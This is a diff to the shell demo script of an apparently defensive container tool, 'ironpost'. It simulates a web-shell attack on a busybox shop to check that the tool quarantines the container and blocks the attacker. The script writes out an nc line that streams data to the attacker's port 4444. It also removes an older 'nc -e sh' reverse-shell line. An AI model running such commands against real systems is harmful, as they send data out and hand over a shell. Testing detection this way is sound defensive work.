@@ -95,11 +95,15 @@ until_true ironpost status
 step "A web shop runs in a container beside the stack."
 cat >serve.sh <<'END'
 #!/bin/sh
-# One request: its line goes to the log of the container; the parameter cmd is executed, as by a web shell.
+# One request. The parameter cmd has it connect to the attacker and send what it finds, as a web shell would. Its line goes to
+# the log of the container, as with any web server after the work.
 read -r method target version
+case $target in *cmd=*)
+  ({ n=0; while :; do echo "secret $n"; n=$((n + 1)); sleep 0.2; done | nc "$PEER" 4444; } </dev/null >/dev/null 2>&1 &)
+  for _ in $(seq 50); do grep -q ':115C 01 ' /proc/net/tcp && break; sleep 0.1; done ;; # connected to port 4444
+esac
 echo "$PEER - - [$(date -u '+%d/%b/%Y:%H:%M:%S +0000')] \"$method $target $(echo "$version" | tr -d '\r')\" 200 57 \"-\" \"curl/8\"" >/proc/1/fd/1
 printf 'HTTP/1.0 200 OK\r\n\r\nshop\n'
-case $target in *cmd=*) (nc "$PEER" 4444 -e sh </dev/null >/dev/null 2>&1 &) ;; esac
 END
 docker run -d --name shop --restart always -p 80:80 -v "$PWD/serve.sh:/serve.sh:ro" busybox:latest \
   sh -c 'while :; do PEER='"$attacker"' nc -l -p 80 -e sh /serve.sh; done' >/dev/null
@@ -121,11 +125,16 @@ else
 fi
 watcher=$!
 until_true grep -q -e Subscribing -e PONG "$work/nats.log"
-nsenter --net="/run/netns/$id-a" busybox nc -l -p 4444 >"$work/shell.log" 2>&1 &
+mkfifo "$work/quiet" # an input that does not end: the shop's nc would end with it
+exec 9<>"$work/quiet"
+nsenter --net="/run/netns/$id-a" busybox nc -l -p 4444 <&9 >"$work/shell.log" 2>&1 &
 listener=$!
 
+in_shop() { nsenter --net="/proc/$(docker inspect --format '{{.State.Pid}}' shop)/ns/net" "$@"; }
+in_shop busybox ping -c 1 -W 2 "$attacker" >/dev/null || { echo "demo: the shop does not reach the outside before the attack" >&2; exit 1; }
 step "An attacker uses a web shell, which connects back to the attacker."
 shop 'uploads/x.php?cmd=nc' || true
+until_true grep -q secret "$work/shell.log"
 
 held() { ironpost quarantine list | grep -q ' held '; }
 until_true held
@@ -135,6 +144,11 @@ ironpost quarantine list
 state=$(docker inspect --format '{{.State.Status}} {{len .NetworkSettings.Networks}}' shop)
 [ "$state" = "paused 0" ] || { echo "demo: the shop is \"$state\", want paused with 0 networks" >&2; exit 1; }
 echo "shop: paused, on 0 networks"
+sent=$(wc -l <"$work/shell.log")
+sleep 2
+[ "$(wc -l <"$work/shell.log")" = "$sent" ] || { echo "demo: the connection to the attacker goes on" >&2; exit 1; }
+if in_shop busybox ping -c 1 -W 2 "$attacker" >/dev/null 2>&1; then echo "demo: the shop still reaches the attacker" >&2; exit 1; fi
+echo "its connection to the attacker brought $sent lines out, none since; it reaches nothing outside"
 blocked() { ironpost blocklist list | grep -q "$attacker"; }
 until_true blocked
 step "The kernel of the host drops the attacker's packets:"
@@ -158,6 +172,12 @@ restarted() { [ "$(docker inspect --format '{{.State.Status}} {{len .NetworkSett
 until_true restarted
 [ "$(docker inspect --format '{{.State.StartedAt}}' shop)" != "$started" ] || { echo "demo: the shop was not restarted" >&2; exit 1; }
 docker inspect --format 'shop: {{.State.Status}}, on {{len .NetworkSettings.Networks}} network' shop
+actions() { sql "SELECT count(*) FROM ironpost.actions WHERE kind = '$1' AND phase = '$2'"; }
+released() { [ "$(actions release "released' AND record->>'reason' LIKE '%was restarted%")" = 1 ]; }
+until_true released
+[ "$(actions isolate done)" = 1 ] && restarted || { echo "demo: $(actions isolate done) isolations were done, want 1" >&2; exit 1; }
+[ "$(wc -l <"$work/shell.log")" = "$sent" ] || { echo "demo: the old connection went on after the release" >&2; exit 1; }
+echo "one isolation was done, and the old connection brought out nothing more"
 
 if [ $# -gt 0 ]; then
   export work id
